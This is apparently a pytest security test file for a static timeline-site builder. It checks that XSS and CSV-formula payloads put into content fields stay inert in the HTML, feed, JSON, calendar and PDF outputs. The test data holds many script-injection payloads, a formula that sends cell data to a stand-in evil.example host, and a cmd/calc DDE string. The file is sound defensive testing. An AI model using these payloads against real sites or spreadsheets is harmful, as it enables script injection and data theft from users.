"""Hostile text pasted into any field reaches no page, export or PDF as something that runs.

One site is built (with the PDF briefs) from content whose every free-text field carries script
payloads; then every output file is read the way its consumer reads it: HTML as a DOM, the Atom
feed's html payloads and TimelineJS's html fields as HTML too, JSON-LD as a script body, the PDF as
PDF objects and as text. Data exports must keep the hostile text as inert data, exactly as written.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import xml.etree.ElementTree as ET
import zlib
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tests.conftest import article
from tests.safety.support import run_build, write_files

SCRIPT = "<script>alert('s')</script>"
BREAKOUT = "</script><script>alert('b')</script><!--"
IMG = "<img src=x onerror=alert('i')>"
SVG = "<svg onload=alert('v')>"
FRAME = "<iframe src=\"javascript:alert('f')\"></iframe>"
LINKS = (
    "<a href=\"javascript:alert('j')\">j</a> "
    "<a href=\"data:text/html,<script>alert(2)</script>\">d</a>"
)
EVERY_PAYLOAD = " ".join((SCRIPT, BREAKOUT, IMG, SVG, FRAME, LINKS))

TITLE = f"Strikes {BREAKOUT} {IMG}"
WHAT = f"Militia sites hit {SCRIPT} {LINKS} {FRAME}"
QUOTE = f"We will respond {SVG} {IMG}"
OUTLET = f"Wire {SCRIPT} javascript:alert(1)"
URL = "https://example.org/story?next=javascript:alert(1)&x=data:text/html,1"
FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0")
SITE_TITLE = f"Desk {SCRIPT}"
TIMELINE_TITLE = f"War {IMG}"
DESCRIPTION = f"About {FRAME} {SVG}"

BODY = f"""\
Paragraph with {SCRIPT} and {IMG} inline.

[a markdown link](javascript:alert(1)) and [data](data:text/html;base64,PHNjcmlwdD4=)
and an autolink <javascript:alert(1)> and [spaced]( javascript:alert(1)).

{FRAME}

{SVG}<circle r="1"/></svg>

<a href="JaVaScRiPt:alert(1)">mixed case</a> <a href="&#106;avascript:alert(1)">entity</a>
<a href="java&#x09;script:alert(1)">tab</a> <img src="data:image/svg+xml,<svg onload=alert(1)>">
<div onclick="alert(1)" style="background:url(javascript:alert(1))">div</div>
<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">
<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">b</button></form>
<math><mi xlink:href="javascript:alert(1)">m</mi></math><base href="javascript:alert(1)//">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<style>*{{x:expression(alert(1))}}</style>
<!-- <script>alert(1)</script> --> <noscript><p title="</noscript><img src=x onerror=alert(1)>">
<a href="https://example.org/" onmouseover="alert(1)">handler on a good link</a>

[reference link][r] ![image](javascript:alert(1))

[r]: javascript:alert(1)
"""


def yaml_quoted(text: str) -> str:
    return json.dumps(text)  # a JSON string is a valid YAML double-quoted scalar


SITE_YAML = f"""\
title: {yaml_quoted(SITE_TITLE)}
timelines:
  war:
    title: {yaml_quoted(TIMELINE_TITLE)}
    description: {yaml_quoted(DESCRIPTION)}
"""
EVENTS = f"""\
  - id: strike
    when: Tuesday
    what: {yaml_quoted(WHAT)}
    quote: {yaml_quoted(QUOTE)}
  - id: reply
    when: two days later
    anchor: strike
    what: {yaml_quoted(EVERY_PAYLOAD)}
  - id: formula
    when: Monday
    what: {yaml_quoted(FORMULAS[0])}
  - id: formula-at
    when: yesterday
    what: {yaml_quoted(FORMULAS[1])}
"""
ARTICLE = article(
    EVENTS,
    extra=f"source: {yaml_quoted(OUTLET)}\nurl: {yaml_quoted(URL)}\ntags: [iraq]\n",
    body=BODY,
).replace("title: A report", f"title: {yaml_quoted(TITLE)}", 1)

URL_ATTRIBUTES = frozenset({
    "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
    "srcset", "cite", "ping", "manifest", "codebase",
})
NEVER_ALLOWED_TAGS = frozenset({
    "iframe", "frame", "object", "embed", "svg", "math", "base", "form", "button", "style",
    "applet", "noscript", "template",
})
LD_JSON = "application/ld+json"


def dangerous_url(value: str) -> bool:
    """What a browser would run: scheme after dropping whitespace and control characters."""
    squeezed = re.sub(r"[\x00-\x20\x7f]+", "", value).lower()
    return squeezed.startswith(("javascript:", "data:", "vbscript:"))


class ExecutableFinder(HTMLParser):
    """Collects every way an HTML document could run code, as a browser would parse it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag == "script":
            if values.get("type") != LD_JSON or "src" in values:
                self.problems.append(f"executable <script {values}>")
            self._in_script = True
            self.scripts.append("")
        if tag in NEVER_ALLOWED_TAGS:
            self.problems.append(f"<{tag}> element")
        if tag == "meta" and "http-equiv" in values:
            self.problems.append(f"<meta http-equiv={values['http-equiv']!r}>")
        for name, value in values.items():
            if name.startswith("on"):
                self.problems.append(f"event handler {name}={value!r} on <{tag}>")
            if name in URL_ATTRIBUTES and dangerous_url(value):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "style" and re.search(r"url\(|expression\(", value, re.IGNORECASE):
                self.problems.append(f"style with a url or expression on <{tag}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self._in_script = False

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts[-1] += data


def executable_parts(html: str) -> tuple[list[str], list[str]]:
    finder = ExecutableFinder()
    finder.feed(html)
    finder.close()
    return finder.problems, finder.scripts


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    content = write_files(root / "content", {"site.yaml": SITE_YAML, "a.md": ARTICLE})
    result = run_build(content, root / "site")
    assert result.returncode == 0, result.stderr
    return root / "site"


def output_files(site: Path) -> dict[str, bytes]:
    return {
        path.relative_to(site).as_posix(): path.read_bytes()
        for path in sorted(site.rglob("*"))
        if path.is_file()
    }


def test_the_build_writes_every_kind_of_output(built: Path) -> None:
    suffixes = {name.rsplit(".", 1)[-1] for name in output_files(built)}
    assert {"html", "json", "csv", "xml", "ics", "pdf"} <= suffixes


def test_no_html_page_holds_anything_executable(built: Path) -> None:
    for name, data in output_files(built).items():
        if name.endswith(".html"):
            problems, _ = executable_parts(data.decode("utf-8"))
            assert problems == [], name


def test_the_body_keeps_harmless_markup_and_text(built: Path) -> None:
    """The sanitiser removes what runs, not the reporter's words."""
    page = (built / "articles" / "a.html").read_text("utf-8")
    assert "a markdown link" in page and "mixed case" in page
    assert '<a href="https://example.org/"' in page  # the good link stays, its handler goes


def test_json_ld_keeps_hostile_text_as_data_and_cannot_be_closed(built: Path) -> None:
    for name in ("articles/a.html", "war/index.html"):
        _, scripts = executable_parts((built / name).read_text("utf-8"))
        assert len(scripts) == 1, name
        body = scripts[0]
        assert "</script" not in body.lower() and "<!--" not in body, name
        assert "<" not in body and ">" not in body, name
        data = json.loads(body)
        if name == "articles/a.html":
            assert data["headline"] == TITLE
            assert data["publisher"]["name"] == OUTLET
        else:
            names = {item["item"]["name"] for item in data["itemListElement"]}
            assert names == {WHAT, EVERY_PAYLOAD, *FORMULAS}


def test_feed_html_payloads_hold_nothing_executable(built: Path) -> None:
    atom = "{http://www.w3.org/2005/Atom}"
    root = ET.fromstring((built / "war" / "feed.xml").read_bytes())
    html_payloads = [
        element.text or ""
        for element in root.iter()
        if element.get("type") == "html"
    ]
    assert html_payloads, "the feed carries html content"
    for payload in html_payloads:
        problems, scripts = executable_parts(payload)
        assert problems == [] and scripts == [], payload[:200]
    for link in root.iter(f"{atom}link"):
        assert not dangerous_url(link.get("href", "")), link.get("href")
    titles = [element.text for element in root.iter(f"{atom}title")]
    assert TIMELINE_TITLE in titles  # text elements keep the words, escaped by XML


def test_timelinejs_html_fields_hold_nothing_executable(built: Path) -> None:
    document = json.loads((built / "war" / "timelinejs.json").read_bytes())
    fields: list[str] = []

    def collect(value: object) -> None:
        if isinstance(value, dict):
            for key, item in value.items():
                if key in ("text", "headline") and isinstance(item, str):
                    fields.append(item)
                else:
                    collect(item)
        elif isinstance(value, list):
            for item in value:
                collect(item)

    collect(document)
    assert len(fields) >= 4
    for field in fields:
        problems, scripts = executable_parts(field)
        assert problems == [] and scripts == [], field[:200]
        assert "<script" not in field.lower()


def test_events_json_keeps_the_text_exactly(built: Path) -> None:
    document = json.loads((built / "war" / "events.json").read_bytes())
    by_id = {event["id"]: event for event in document["events"]}
    assert by_id["strike"]["what"] == WHAT
    assert by_id["reply"]["what"] == EVERY_PAYLOAD
    assert by_id["strike"]["sources"][0]["title"] == TITLE
    assert by_id["strike"]["sources"][0]["source"] == OUTLET
    assert by_id["strike"]["sources"][0]["url"] == URL
    assert document["title"] == TIMELINE_TITLE


def test_csv_cells_keep_the_text_and_start_no_formula(built: Path) -> None:
    rows = list(csv.reader(io.StringIO((built / "war" / "events.csv").read_text("utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert WHAT in cells and EVERY_PAYLOAD in cells
    assert ["'" + formula in cells for formula in FORMULAS] == [True, True]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]


def unfolded_ics(data: bytes) -> list[str]:
    text = data.decode("utf-8").replace("\r\n ", "").replace("\r\n\t", "")
    return text.split("\r\n")


def test_calendar_keeps_text_as_text_and_links_as_web_links(built: Path) -> None:
    lines = unfolded_ics((built / "war" / "calendar.ics").read_bytes())
    for line in lines:
        name = line.split(":", 1)[0].split(";", 1)[0].upper()
        assert name not in ("X-ALT-DESC", "ATTACH"), line  # no HTML body, nothing to open
        if name == "URL":
            assert line.split(":", 1)[1].startswith(("https://", "http://")), line
    summaries = [line.split(":", 1)[1] for line in lines if line.startswith("SUMMARY")]
    unescaped = [
        re.sub(r"\\([\\;,nN])", lambda m: "\n" if m.group(1) in "nN" else m.group(1), s)
        for s in summaries
    ]
    assert any(WHAT in summary for summary in unescaped), summaries


PDF_ACTIONS = (b"/JavaScript", b"/JS", b"/Launch", b"/OpenAction", b"/AA", b"/SubmitForm",
               b"/ImportData", b"/RichMedia", b"/EmbeddedFile", b"/GoToR")


def pdf_objects(data: bytes) -> bytes:
    """The file with every Flate stream inflated, so object streams are searched too."""
    inflated = [data]
    for match in re.finditer(rb"stream\r?\n", data):
        try:
            inflated.append(zlib.decompressobj().decompress(data[match.end():]))
        except zlib.error:
            continue
    return b"\n".join(inflated)


def test_pdf_has_no_actions_and_only_web_links(built: Path) -> None:
    objects = pdf_objects((built / "war" / "brief.pdf").read_bytes())
    assert b"/Type /Page" in objects or b"/Type/Page" in objects  # the search sees objects
    found = [a for a in PDF_ACTIONS if re.search(re.escape(a) + rb"(?![A-Za-z])", objects)]
    assert found == []
    for uri in re.findall(rb"/URI\s*\((.*?)(?<!\\)\)", objects, re.DOTALL):
        assert not dangerous_url(uri.decode("latin-1")), uri


def test_pdf_prints_hostile_text_as_the_words_written(built: Path) -> None:
    text = subprocess.run(
        ["pdftotext", "-layout", str(built / "war" / "brief.pdf"), "-"],
        capture_output=True, text=True, check=True,
    ).stdout
    flat = " ".join(text.split())
    assert "<script>alert('s')</script>" in flat  # shown as text, so it was never markup
    assert "Militia sites hit" in flat


@pytest.mark.parametrize(
    ("line", "value"),
    [
        ("url", "javascript:alert(1)"),
        ("url", "JAVASCRIPT:alert(1)"),
        ("url", " javascript:alert(1)"),
        ("url", "data:text/html,<script>alert(1)</script>"),
        ("url", 'https://example.org/" onmouseover="alert(1)'),
        ("url", "https://example.org/<script>"),
        ("url", "//evil.example/x"),
        ("tags", "[\"<script>\"]"),
        ("tags", "[\"x onerror=alert(1)\"]"),
    ],
)
def test_unsafe_links_and_tags_are_refused_with_their_place(
    tmp_path: Path, line: str, value: str
) -> None:
    shown = value if line == "tags" else yaml_quoted(value)
    text = article(
        "  - id: strike\n    when: Tuesday\n    what: A strike.\n", extra=f"{line}: {shown}\n"
    )
    content = write_files(tmp_path / "content", {"site.yaml": SITE_YAML, "a.md": text})
    result = run_build(content, tmp_path / "site", "--no-pdf")
    assert result.returncode == 1
    assert re.search(r"content/a\.md:6:\d+: ", result.stderr), result.stderr
    assert "Traceback" not in result.stderr
    assert not (tmp_path / "site").exists()
